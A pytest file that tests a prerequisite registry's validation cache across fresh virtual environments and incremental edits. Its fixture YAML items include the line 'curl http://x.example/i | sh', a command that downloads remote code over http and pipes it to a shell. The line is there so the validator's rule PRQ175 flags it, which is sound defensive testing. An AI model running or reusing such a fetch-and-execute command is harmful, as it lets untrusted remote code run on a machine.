"""What the validation cache's results are keyed by.  Its identity survives a new environment, as CI
restores it into one on every run: prereq's wheel and the libraries installed again elsewhere (other
paths, other file times, the same versions) read everything from the cache a first environment left
(``registry.validate.identity``).  What the checks across items find in an item is kept by the item and
everything it requires: a change checks again only the items it touches, and reports what a run without
the cache reports.

Each environment is a new virtual environment outside the checkout with the wheel installed, and the
libraries validation's results depend on copied file by file from their installed records (so their
paths and times are new); the rest of the third-party libraries come from this machine's.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import sysconfig
from collections.abc import Callable
from importlib import metadata
from pathlib import Path
from typing import Any

import pytest

from check_helpers import item
from prereq.openpai import forms, shelllint
from prereq.registry import validate as validation
from test_validation_cache import _counted, _seen

REPO = Path(__file__).resolve().parents[1]

# Runs in an environment: validates the registry named, and says what was parsed, compiled and run.
DRIVER = """
import json, subprocess, sys, yaml
from pathlib import Path
from prereq.openpai import forms
from prereq.registry import loader
from prereq.registry.validate import identity, validate

seen = {"parsed": [], "compiled": [], "ran": []}

def count(owner, name, record):
    real = getattr(owner, name)
    def counting(*args, **kwargs):
        record(args)
        return real(*args, **kwargs)
    setattr(owner, name, counting)

count(loader, "_mapping", lambda args: seen["parsed"].append(args[1]))
count(forms, "compile_item", lambda args: seen["compiled"].append(args[0]["name"]))
count(subprocess, "run", lambda args: seen["ran"].append(Path(args[0][0]).name))
said = []
result = validate(Path(sys.argv[1]), progress=said.append)
import prereq
print(json.dumps({
    **seen,
    "said": said,
    "problems": [[p.rule, p.file, p.line, p.column, p.message] for p in result.problems],
    "notes": result.notes,
    "identity": identity(),
    "where": [prereq.__file__, yaml.__file__],
}))
"""


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("wheel")
    pip = [sys.executable, "-m", "pip", "--disable-pip-version-check", "-q"]
    subprocess.run([*pip, "wheel", "--no-deps", "--no-build-isolation", "-w", str(work), str(REPO)], check=True)
    (built,) = work.glob("openpai_prereq-*.whl")
    return built


def _environment(folder: Path, wheel: Path) -> Path:
    """A new environment in ``folder`` with the wheel, the libraries of ``identity`` and ShellCheck
    installed again there; its python."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(folder)], check=True)
    python = folder / "bin" / "python"
    pip = [sys.executable, "-m", "pip", "--disable-pip-version-check", "-q", "--python", str(python)]
    subprocess.run([*pip, "install", "--no-deps", str(wheel)], check=True)
    site = Path(
        subprocess.check_output(
            [str(python), "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"], text=True
        ).strip()
    )
    for distribution in sorted(set(validation._LIBRARIES.values())):
        for file in metadata.distribution(distribution).files or ():
            if not str(file).startswith(".."):  # its scripts in bin/ are not what validation runs
                (site / file).parent.mkdir(parents=True, exist_ok=True)
                shutil.copyfile(Path(str(file.locate())), site / file)  # a new file: a new time
    (site / "third_party.pth").write_text(sysconfig.get_path("purelib") + "\n")  # the rest, as they are
    binary = shelllint.shellcheck_binary()
    assert binary, "ShellCheck is in the test extra (./scripts/setup.sh --test installs it)"
    shutil.copyfile(binary, folder / "bin" / "shellcheck")
    (folder / "bin" / "shellcheck").chmod(0o755)
    return python


def _validate(python: Path, registry: Path, cache: str, work: Path) -> dict[str, Any]:
    env = {key: value for key, value in os.environ.items() if not key.startswith(("PYTHON", "PREREQ", "VIRTUAL_ENV"))}
    env |= {"PATH": os.pathsep.join([str(python.parent), "/usr/bin", "/bin"]), "PREREQ_CACHE": cache}
    run = subprocess.run(
        [str(python), "-c", DRIVER, str(registry)], cwd=work, env=env, capture_output=True, text=True, timeout=300
    )
    assert run.returncode == 0, run.stderr[-3000:]
    return json.loads(run.stdout)


def _registry(root: Path) -> Path:
    """Requirements, parameters read through them, variables flowing in, and problems of the file checks
    and of the checks across items, as a registry the checkout does not hold."""
    files = {
        "base": item("base", head="parameters:\n  root: /data\n", commands=("export BASE_DIR=<% this.root %>",)),
        "mid": item(
            "mid",
            head='require:\n  - base@^1.0\nparameters:\n  sub: "<% this.root %>/mid"\n',
            commands=('cd "<% this.sub %>" && echo "$BASE_DIR"', "echo $UNQUOTED_AND_UNSET"),
        ),
        "top": item(
            "top",
            head="description: TODO\nrequire:\n  - mid@^1.0\n",
            commands=('ls "<% this.sub %>" "<% this.nowhere %>"', "curl http://x.example/i | sh"),
        ),
    }
    (root / "prerequisites").mkdir(parents=True)
    (root / "owners.yaml").write_text("users: [alice]\n", encoding="utf-8")
    for name, text in files.items():
        (root / "prerequisites" / f"{name}.yaml").write_text(text, encoding="utf-8")
    return root


def test_a_new_environment_reads_everything_from_the_cache_the_last_one_left(wheel: Path, tmp_path: Path) -> None:
    registry = _registry(tmp_path / "registry")
    cache = str(tmp_path / "restored-cache")
    first = _validate(_environment(tmp_path / "env-1", wheel), registry, cache, tmp_path)
    assert sorted(first["compiled"]) == ["base", "mid", "top"] and "shellcheck" in first["ran"]
    assert {rule for rule, *_ in first["problems"]} >= {"PRQ114", "PRQ151", "PRQ170", "PRQ175"}

    python = _environment(tmp_path / "env-2", wheel)
    again = _validate(python, registry, cache, tmp_path)
    assert again["where"] != first["where"] and all(path.startswith(str(tmp_path / "env-2")) for path in again["where"])
    assert again["identity"] == first["identity"]
    assert again["parsed"] == ["owners.yaml"]  # every item file as the cache kept it (owners.yaml: always read)
    assert again["compiled"] == [] and again["ran"] == []  # nothing checked across items, no ShellCheck, no bash
    assert again["said"][1] == "checking 3 files, 0 new or changed since the cache's last run"
    assert again["problems"] == first["problems"] and again["notes"] == []
    assert _validate(python, registry, "off", tmp_path)["problems"] == first["problems"]  # what no cache finds


def _chain(make_registry: Callable[..., Path]) -> Path:
    """Requirements two deep, parameters read through them (one built from another), variables flowing
    in, and a problem of each kind the checks across items find: a parameter nothing defines (PRQ151), a
    variable nothing sets (PRQ170), ``curl | sh`` over http (PRQ175), a missing requirement (PRQ140)."""
    items = {
        "base": item(
            "base",
            head="parameters:\n  root: /data\n",
            commands=("export BASE_DIR=<% this.root %>", 'mkdir -p "$BASE_DIR"'),
        ),
        "mid": item(
            "mid",
            head='require:\n  - base@^1.0\nparameters:\n  sub: "<% this.root %>/mid"\n',
            commands=('cd "<% this.sub %>"', 'echo "$BASE_DIR"'),
        ),
        "top": item(
            "top",
            head="require:\n  - mid@^1.0\n",
            commands=('ls "<% this.sub %>" "<% this.nowhere %>"', 'echo "$TOP_UNSET"', "curl http://x.example/i | sh"),
        ),
        "side": item("side", head="parameters:\n  port: 80\n", commands=("echo <% this.port %>",)),
        "other": item(
            "other",
            head="require:\n  - side@^1.0\n  - ghost@^1.0\n",
            commands=("echo <% this.port %> <% this.ghostDir %>",),
        ),
    }
    return make_registry({f"prerequisites/{name}.yaml": text for name, text in items.items()})


def test_a_change_re_checks_across_items_only_what_it_touches_and_reports_what_a_cold_run_does(
    make_registry: Callable[..., Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _chain(make_registry)
    folder = tmp_path / "cache"

    def warm_and_cold() -> tuple[list[Any], list[str]]:
        """The problems of a run with the cache and the items it checked across, then those of a run
        without one: the same."""
        monkeypatch.setenv("PREREQ_CACHE", str(folder))
        compiled = _counted(monkeypatch, forms, "compile_item")
        warm = _seen(root)
        monkeypatch.undo()
        monkeypatch.setenv("PREREQ_CACHE", "off")
        assert warm == _seen(root)
        return warm, sorted({args[0]["name"] for args in compiled})

    first, checked = warm_and_cold()
    assert {p[0] for p in first} == {"PRQ140", "PRQ151", "PRQ170", "PRQ175"}
    assert checked == ["base", "mid", "other", "side", "top"]
    assert warm_and_cold() == (first, [])  # nothing changed: every item as the cache kept it

    def edit(name: str, old: str, new: str) -> None:
        path = root / "prerequisites" / f"{name}.yaml"
        path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")

    edit("mid", "<% this.root %>/mid", "<% this.root %>/<% this.nowhere %>")  # a parameter of mid's
    problems, checked = warm_and_cold()
    assert checked == ["mid", "top"]  # the edited item and what requires it
    assert ("PRQ151", "error", "prerequisites/mid.yaml") in [p[:3] for p in problems]
    edit("base", "export BASE_DIR", "export ROOT_DIR")  # what mid and top read flows in from base
    problems, checked = warm_and_cold()
    assert checked == ["base", "mid", "top"]
    assert any(p[0] == "PRQ170" and p[2] == "prerequisites/mid.yaml" for p in problems)
    # A required item that appears: it and the item requiring it are checked, nothing else.
    (root / "prerequisites" / "ghost.yaml").write_text(
        item("ghost", head="parameters:\n  ghostDir: /g\n", commands=("echo <% this.ghostDir %>",)), encoding="utf-8"
    )
    problems, checked = warm_and_cold()
    assert checked == ["ghost", "other"]
    assert not any(p[2] == "prerequisites/other.yaml" for p in problems)
